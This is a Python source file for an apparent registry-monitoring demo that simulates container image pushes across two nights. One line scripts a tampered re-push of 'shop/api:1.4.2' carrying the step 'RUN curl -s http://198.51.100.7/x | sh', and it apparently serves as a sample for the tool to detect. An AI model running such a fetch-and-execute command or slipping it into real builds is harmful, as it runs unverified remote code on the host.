"""The demo registry on two nights: Official Images as they moved in August 2026, and a shop's.

Tag names, version lines and what moved are the publishers' (`nights.json` says from where); the
bytes inside the layers are made up.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from importlib import resources
from typing import Any

from tagwatch.service.demo.images import Built, Shelf, Step, build

__all__ = ["first_night", "second_night"]

_ARCHITECTURES = ("amd64", "arm64")
_FULL = re.compile(r"(\d+\.\d+\.\d+)", re.ASCII)
_OS = re.compile(r"(alpine3\.\d+|bookworm|trixie)", re.ASCII)
_FIRST, _SECOND = "2026-08-16", "2026-08-21"

_RUNTIME: Mapping[str, Mapping[str, Any]] = {
    "redis": {
        "Cmd": ["redis-server"],
        "Entrypoint": ["docker-entrypoint.sh"],
        "ExposedPorts": {"6379/tcp": {}},
        "Volumes": {"/data": {}},
        "WorkingDir": "/data",
    },
    "python": {"Cmd": ["python3"]},
    "node": {"Cmd": ["node"], "Entrypoint": ["docker-entrypoint.sh"]},
    "nginx": {
        "Cmd": ["nginx", "-g", "daemon off;"],
        "Entrypoint": ["/docker-entrypoint.sh"],
        "ExposedPorts": {"80/tcp": {}},
        "StopSignal": "SIGQUIT",
    },
}

# what Debian's refresh between the two nights brings
_SYSTEM = (
    (("base-files", "13.6"), ("libc6", "2.41-12"), ("openssl", "3.5.1-1")),
    (("base-files", "13.6"), ("libc6", "2.41-12"), ("openssl", "3.5.1-1+deb13u1")),
)


def first_night() -> Shelf:
    """The registry before."""
    shelf = Shelf()
    _push_official(shelf, 0)
    _push_shop(shelf, _images(0, "python", "3.12-slim"), "1.4.2", ("1.4.2", "1.4", "latest"))
    _push_shop(shelf, _images(0, "python", "3.12-slim"), "1.4.1", ("1.4.1",))
    for version, tags in (("1.9.4", ("1.9.4", "1.9")), ("2.0.0", ("2.0.0", "2.0", "2"))):
        _push_web(shelf, version, tags)
    return shelf


def second_night(shelf: Shelf) -> None:
    """What one night does: releases, rebuilds on a new Debian, a deletion, and a re-push."""
    _push_official(shelf, 1)
    api = _images(0, "python", "3.12-slim")
    _push_shop(shelf, api, "1.4.3", ("1.4.3", "1.4", "latest"), day=_SECOND)
    # somebody pushed 1.4.2 again, with another entrypoint and one more step
    steps = [
        *_api_steps("1.4.2"),
        Step(created_by="RUN curl -s http://198.51.100.7/x | sh", content="x"),
    ]
    images = [
        build(
            base,
            steps,
            day=_SECOND,
            config={**_API_CONFIG, "Entrypoint": ["/usr/local/bin/run.sh"]},
            architecture=base.architecture,
        )
        for base in api
    ]
    shelf.push("shop/api", ("1.4.2",), images, _SECOND)
    shelf.delete("shop/web", "1.9.4")
    shelf.delete("shop/web", "1.9")


_API_CONFIG: Mapping[str, Any] = {
    "Cmd": ["python", "-m", "shop.api"],
    "ExposedPorts": {"8000/tcp": {}},
    "User": "10001",
    "WorkingDir": "/app",
}


def _push_official(shelf: Shelf, night: int) -> None:
    for name, groups in _nights()[night].items():
        for group in groups:
            images = list(_official(night, name, group))
            shelf.push(f"library/{name}", group["tags"], images, (_FIRST, _SECOND)[night])


def _images(night: int, name: str, tag: str) -> list[Built]:
    group = next(group for group in _nights()[night][name] if tag in group["tags"])
    return list(_official(night, name, group))


def _official(night: int, name: str, group: Mapping[str, Any]) -> Iterator[Built]:
    """One build of an Official Image: a distribution's base, then the application's own steps."""
    tags = " ".join(group["tags"])
    versions = _FULL.findall(tags)
    distribution = next(iter(_OS.findall(f"{group['dir']} {tags}")), "trixie")
    slim = "slim" in group["dir"]
    # Python was rebuilt that week because Debian was: same commit, same version, new base
    rebuilt = night == 1 and name == "python" and "alpine" not in distribution
    base_day = _SECOND if rebuilt else "2026-08-03"
    day = base_day if rebuilt else "2026-08-14"
    variable = f"{name.upper()}_VERSION"
    version = max(versions, key=lambda text: [int(part) for part in text.split(".")])
    for architecture in _ARCHITECTURES:
        base = build(
            None,
            [
                Step(
                    created_by=f"ADD rootfs.tar.xz / # {distribution}",
                    content=f"{distribution} {architecture}",
                ),
                Step(created_by='CMD ["bash"]'),
            ],
            day=base_day,
            config={"Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]},
            architecture=architecture,
            packages=_SYSTEM[base_day == _SECOND],
        )
        steps = [
            Step(created_by=f"ENV {variable}={version}"),
            Step(
                created_by=f"RUN set -eux; install {'slim ' if slim else ''}packages",
                content=f"{name} packages {group['dir']} {architecture}",
            ),
            Step(
                created_by=f"RUN set -eux; fetch {name}-{version}.tar.gz; build; install",
                content=f"{name} {version} {group['commit']} {group['dir']} {architecture}",
            ),
        ]
        environment = [*base.config["config"]["Env"], f"{variable}={version}"]
        yield build(
            base,
            steps,
            day=day,
            config={**_RUNTIME[name], "Env": environment},
            architecture=architecture,
            packages=((name, version),),
        )


def _push_shop(
    shelf: Shelf, bases: list[Built], version: str, tags: tuple[str, ...], *, day: str = _FIRST
) -> None:
    images = [
        build(
            base, _api_steps(version), day=day, config=_API_CONFIG, architecture=base.architecture
        )
        for base in bases
    ]
    shelf.push("shop/api", tags, images, day)


def _api_steps(version: str) -> list[Step]:
    return [
        Step(created_by="WORKDIR /app"),
        Step(created_by="COPY requirements.txt .", content=f"requirements {version}"),
        Step(created_by="RUN pip install -r requirements.txt", content=f"packages {version}"),
        Step(created_by="COPY . .", content=f"shop api {version}"),
        Step(created_by="USER 10001"),
        Step(created_by='CMD ["python" "-m" "shop.api"]'),
    ]


def _push_web(shelf: Shelf, version: str, tags: tuple[str, ...]) -> None:
    images = [
        build(
            base,
            [Step(created_by="COPY dist /usr/share/nginx/html", content=f"shop web {version}")],
            day=_FIRST,
            architecture=base.architecture,
        )
        for base in _images(0, "nginx", "1.30-alpine")
    ]
    shelf.push("shop/web", tags, images, _FIRST)


def _nights() -> list[dict[str, Any]]:
    text = resources.files("tagwatch.service.demo").joinpath("nights.json").read_text("utf-8")
    nights: list[dict[str, Any]] = json.loads(text)["nights"]
    return nights
